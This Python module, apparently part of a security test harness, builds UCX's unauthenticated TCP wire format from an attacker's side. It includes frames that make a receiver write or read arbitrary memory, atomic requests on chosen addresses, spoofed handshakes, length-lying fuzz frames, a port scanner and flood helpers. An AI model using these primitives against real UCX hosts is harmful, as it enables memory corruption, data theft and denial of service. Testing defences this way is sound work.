"""UCX's wire format over TCP, as an attacker writes it (issue #23, items 1 and 2).

Everything here was written from reading the sources of UCX 1.13.1 (the version the
project builds against); nothing is taken from UCX.  The file names below are UCX's.

UCT, the transport layer (src/uct/tcp/tcp.h, tcp_ep.c, tcp_cm.c):

* A connection starts with the 8-byte magic number UCT_TCP_MAGIC_NUMBER (tcp.h), sent by
  the connecting side (tcp_cm.c, uct_tcp_cm_send_event); a wrong one closes the socket
  (tcp_ep.c, uct_tcp_ep_progress_magic_number_rx).
* Then frames, each `uct_tcp_am_hdr_t {uint8 am_id; uint32 length}` (packed, host order)
  and `length` bytes.  am_id < UCT_AM_ID_MAX (32, src/uct/api/uct_def.h) is an active
  message handed to the handler the upper layer installed for that id (tcp_ep.c,
  uct_tcp_ep_comp_recv_am); 32..35 are TCP's own: the connection manager (CM), PUT_REQ,
  PUT_ACK and KEEPALIVE (tcp.h, uct_tcp_ep_am_id_t).
* CM packets (tcp_cm.c, uct_tcp_cm_handle_conn_pkt): a 4-byte event (CONN_REQ 1, CONN_ACK 2,
  FIN 4); CONN_REQ continues with `uct_tcp_cm_conn_req_pkt_t {event; uint8 flags; uint64
  cm_id}` and the sender's listening sockaddr (16 bytes for IPv4).  Nothing in it is
  authenticated; the receiver answers CONN_ACK.
* PUT_REQ (tcp_ep.c, uct_tcp_ep_handle_put_req): `uct_tcp_ep_put_req_hdr_t {uint64 addr;
  uint64 length; uint32 sn}` as the frame's payload, then `length` raw bytes that the
  receiver copies to `addr` in its own process, whatever the address; it answers PUT_ACK.

UCP, the protocol layer, rides on UCT active messages (src/ucp/core/ucp_types.h for the
ids; the headers are packed, host order):

* 17 PUT (src/ucp/rma/rma.h ucp_put_hdr_t {uint64 address; uint64 ep_id; uint32
  mem_type} + data; rma_sw.c ucp_put_handler copies the data to `address`),
* 18 GET_REQ (ucp_get_req_hdr_t {address; length; {ep_id; req_id}; mem_type}),
* 20 ATOMIC_REQ (ucp_atomic_req_hdr_t {address; {ep_id; req_id}; uint8 length; uint8
  opcode} + operands; amo_sw.c ucp_atomic_req_handler),
* 22 CMPL (ucp_cmpl_hdr_t {ep_id}; rma_sw.c ucp_rma_cmpl_handler),
* 23 AM_SINGLE (src/ucp/core/ucp_am.h ucp_am_hdr_t {uint16 am_id; uint16 flags; uint32
  header_length}, then the payload, then the user header; ucp_am.c ucp_am_handler).

An ep_id names the receiver's endpoint (src/ucs/datastruct/ptr_map.inl): an odd id is a key
of a hash (3, 5, 7, ... in creation order), an even one is taken as the endpoint's address
itself, 0 is invalid.
"""

import errno
import select
import socket
import struct
import time

# --- UCT (src/uct/tcp/tcp.h, src/uct/api/uct_def.h) -----------------------------------------
MAGIC = 0xCAFEBABE12345678          # UCT_TCP_MAGIC_NUMBER
UCT_AM_ID_MAX = 32                   # UCS_BIT(UCT_AM_ID_BITS), UCT_AM_ID_BITS 5
AM_CM, AM_PUT_REQ, AM_PUT_ACK, AM_KEEPALIVE = 32, 33, 34, 35   # uct_tcp_ep_am_id_t
CONN_REQ, CONN_ACK, CONN_FIN = 1, 2, 4                        # uct_tcp_cm_conn_event_t
RX_SEG_SIZE = 64 * 1024 + 5          # UCX_TCP_RX_SEG_SIZE default + sizeof(uct_tcp_am_hdr_t)

_AM_HDR = struct.Struct("<BI")       # uct_tcp_am_hdr_t
_CONN_REQ = struct.Struct("<iBQ")    # uct_tcp_cm_conn_req_pkt_t
_PUT_REQ = struct.Struct("<QQI")     # uct_tcp_ep_put_req_hdr_t

# --- UCP (src/ucp/core/ucp_types.h, rma/rma.h, core/ucp_am.h, proto/proto_am.h) ------------
UCP_WIREUP, UCP_PUT, UCP_GET_REQ, UCP_GET_REP = 1, 17, 18, 19
UCP_ATOMIC_REQ, UCP_ATOMIC_REP, UCP_CMPL, UCP_AM_SINGLE = 20, 21, 22, 23
MEM_HOST = 0                         # UCS_MEMORY_TYPE_HOST (src/ucs/memory/memory_type.h)
ATOMIC_ADD, ATOMIC_AND, ATOMIC_OR, ATOMIC_XOR, ATOMIC_SWAP, ATOMIC_CSWAP = range(6)  # uct.h
REQ_ID_NONE = 0                      # UCS_PTR_MAP_KEY_INVALID: an atomic without a reply

_PUT_HDR = struct.Struct("<QQi")       # ucp_put_hdr_t
_GET_REQ_HDR = struct.Struct("<QQQQi")  # ucp_get_req_hdr_t (ucp_request_hdr_t inside)
_ATOMIC_HDR = struct.Struct("<QQQBB")  # ucp_atomic_req_hdr_t
_CMPL_HDR = struct.Struct("<Q")        # ucp_cmpl_hdr_t
_AM_SINGLE_HDR = struct.Struct("<HHI")  # ucp_am_hdr_t


# --- frames ------------------------------------------------------------------------------------

def frame(am_id, payload, length=None):
    """One UCT frame; `length` overrides the header's length field (a lie, for fuzzing)."""
    return _AM_HDR.pack(am_id, len(payload) if length is None else length) + payload


def magic():
    return struct.pack("<Q", MAGIC)


def sockaddr_in(host, port):
    """struct sockaddr_in as Linux lays it out (family in host order, port big-endian)."""
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + \
        socket.inet_aton(host) + bytes(8)


def conn_req(conn_sn, host, port, flags=0):
    """A CM CONN_REQ frame that says it comes from the UCT interface listening at host:port."""
    return frame(AM_CM, _CONN_REQ.pack(CONN_REQ, flags, conn_sn) + sockaddr_in(host, port))


def cm_event(event):
    return frame(AM_CM, struct.pack("<i", event))


def put_req(address, data, sn=0):
    """UCT PUT_REQ: the receiver writes `data` at `address` in its own memory."""
    return frame(AM_PUT_REQ, _PUT_REQ.pack(address, len(data), sn)) + data


def put_ack(sn):
    return frame(AM_PUT_ACK, struct.pack("<I", sn))


def ucp_put(address, ep_id, data, mem_type=MEM_HOST):
    return frame(UCP_PUT, _PUT_HDR.pack(address, ep_id, mem_type) + data)


def ucp_get_req(address, length, ep_id, req_id, mem_type=MEM_HOST):
    return frame(UCP_GET_REQ, _GET_REQ_HDR.pack(address, length, ep_id, req_id, mem_type))


def ucp_atomic_req(address, ep_id, opcode, operands, size=8, req_id=REQ_ID_NONE):
    """operands: 1 value (2 for CSWAP) of `size` bytes (4 or 8)."""
    fmt = "<I" if size == 4 else "<Q"
    args = b"".join(struct.pack(fmt, v & ((1 << (8 * size)) - 1)) for v in operands)
    return frame(UCP_ATOMIC_REQ, _ATOMIC_HDR.pack(address, ep_id, req_id, size, opcode) + args)


def ucp_cmpl(ep_id):
    return frame(UCP_CMPL, _CMPL_HDR.pack(ep_id))


def ucp_am_single(am_id, flags, body, header_length=0):
    """UCP AM_SINGLE: body = payload followed by a user header of header_length bytes."""
    return frame(UCP_AM_SINGLE, _AM_SINGLE_HDR.pack(am_id, flags, header_length) + body)


def parse_frames(buf):
    """Splits received bytes into (am_id, payload) frames; returns (frames, rest)."""
    out = []
    while len(buf) >= _AM_HDR.size:
        am_id, length = _AM_HDR.unpack_from(buf)
        if len(buf) < _AM_HDR.size + length:
            break
        out.append((am_id, bytes(buf[_AM_HDR.size:_AM_HDR.size + length])))
        buf = buf[_AM_HDR.size + length:]
    return out, buf


# --- sockets, every operation bounded ---------------------------------------------------------

CONNECT_TIMEOUT = 1.0


def connect(host, port, timeout=CONNECT_TIMEOUT):
    """A connected non-blocking socket, or (None, why) when the connection could not be made:
    "refused", "timeout" (a defence may drop SYNs) or the error's name."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    rc = s.connect_ex((host, port))
    if rc not in (0, errno.EINPROGRESS):
        s.close()
        return None, outcome_of(rc)
    _, w, _ = select.select([], [s], [], timeout)
    rc = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) if w else errno.ETIMEDOUT
    if rc:
        s.close()
        return None, outcome_of(rc)
    return s, "connected"


def outcome_of(rc):
    """A connect's errno as the scan and the storm count it."""
    return {errno.ECONNREFUSED: "refused", errno.ETIMEDOUT: "timeout"}.get(
        rc, errno.errorcode.get(rc, str(rc)))


class Session:
    """One TCP connection to a UCX port: sends with a deadline, keeps what comes back."""

    def __init__(self, sock):
        self.sock, self.received, self.closed_by_peer = sock, bytearray(), False

    def send(self, data, timeout=2.0):
        """Sends all of data (or as much as the peer takes before timeout / a reset); returns
        the number of bytes sent."""
        view, sent, deadline = memoryview(data), 0, time.monotonic() + timeout
        while sent < len(view) and not self.closed_by_peer:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            r, w, _ = select.select([self.sock], [self.sock], [], left)
            if r:
                self._read_some()
            if w:
                try:
                    sent += self.sock.send(view[sent:sent + 65536])
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    self.closed_by_peer = True
        return sent

    def drain(self, seconds):
        """Reads what the peer sends for `seconds` (or until it closes)."""
        deadline = time.monotonic() + seconds
        while not self.closed_by_peer:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            r, _, _ = select.select([self.sock], [], [], left)
            if r:
                self._read_some()

    def _read_some(self):
        try:
            chunk = self.sock.recv(65536)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            chunk = b""
        if not chunk:
            self.closed_by_peer = True
        self.received += chunk

    def replies(self):
        """The UCT frames received so far, as (am_id, payload)."""
        return parse_frames(bytes(self.received))[0]

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        self.drain(0.05)
        self.sock.close()


def open_uct(host, port, conn_sn, me_host, me_port, handshake=True, timeout=CONNECT_TIMEOUT):
    """Connects, sends the magic number and (handshake) a CONN_REQ that names me_host:me_port,
    and waits a moment for the CONN_ACK.  Returns (Session or None, why)."""
    sock, why = connect(host, port, timeout)
    if sock is None:
        return None, why
    session = Session(sock)
    hello = magic() + (conn_req(conn_sn, me_host, me_port) if handshake else b"")
    session.send(hello, timeout)
    if handshake:
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline and not session.closed_by_peer and \
                not any(i == AM_CM for i, _ in session.replies()):
            session.drain(0.05)
    return session, "connected"


def is_ucx_ack(session):
    """Did the peer answer with UCT's CONN_ACK (a UCX TCP port, fingerprinted)?"""
    return any(i == AM_CM and p[:4] == struct.pack("<i", CONN_ACK) for i, p in session.replies())


def scan(host, ports, deadline, batch=1000, wait=0.3):
    """Non-blocking connects to every port of host (a port scan), in batches; stops at the
    monotonic `deadline`.  Returns (open ports, {outcome: count}, ports scanned)."""
    found, counts, done = [], {}, 0
    ports = list(ports)
    for i in range(0, len(ports), batch):
        if time.monotonic() > deadline:
            break
        pending = {}
        for port in ports[i:i + batch]:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            rc = s.connect_ex((host, port))
            if rc in (0, errno.EINPROGRESS):
                pending[s] = port
            else:
                counts[outcome_of(rc)] = counts.get(outcome_of(rc), 0) + 1
                s.close()
        end = min(deadline, time.monotonic() + wait)
        while pending and time.monotonic() < end:
            _, w, _ = select.select([], list(pending), [], max(0.0, end - time.monotonic()))
            for s in w:
                rc = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                outcome = "open" if rc == 0 else outcome_of(rc)
                counts[outcome] = counts.get(outcome, 0) + 1
                if rc == 0:
                    found.append(pending[s])
                s.close()
                del pending[s]
        counts["timeout"] = counts.get("timeout", 0) + len(pending)
        for s in pending:
            s.close()
        done += len(ports[i:i + batch])
    return sorted(found), counts, done


def raise_fd_limit():
    """The scan and the storm hold many sockets at once."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def local_port_range():
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
            lo, hi = f.read().split()
            return int(lo), int(hi)
    except (OSError, ValueError):
        return 32768, 60999

